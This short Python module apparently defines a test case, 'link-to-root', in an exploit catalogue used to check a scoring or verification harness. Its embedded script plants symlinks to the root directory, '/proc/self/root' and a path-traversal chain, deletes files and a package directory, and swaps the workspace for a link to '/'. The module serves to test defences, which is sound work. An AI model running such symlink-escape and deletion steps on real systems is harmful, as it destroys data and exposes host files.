"""Links to / and to /proc in the workspace, and the workspace itself replaced by a link where that can be done."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified import _looks

SCRIPT = """\
import looks

import os
import shutil

for name, target in (("all", "/"), ("proc", "/proc/self/root"), ("up", "../../../../../.."), ("loop", "loop")):
    os.symlink(target, looks.HOME / name)
os.symlink("/", looks.HOME / "tests" / "root") if (looks.HOME / "tests").is_dir() else None
looks.OLD.unlink()
shutil.rmtree(looks.PACKAGE, ignore_errors=True)
os.symlink("/attacker/original", looks.PACKAGE)
try:
    os.rename(looks.FACTS["workdir"], looks.FACTS["workdir"] + ".moved")
    os.symlink("/", looks.FACTS["workdir"])
except OSError:
    pass
"""

EXPLOIT = Exploit(
    name="link-to-root",
    flaw="hides in the filesystem",
    source="exploit catalogue of verification.md section 4",
    idea="a copy that follows links never ends, or takes the host's files, or writes where the link leads",
    files={**_looks.FILES, "tmp/link_to_root.py": SCRIPT},
    command="python3 /tmp/link_to_root.py",
)
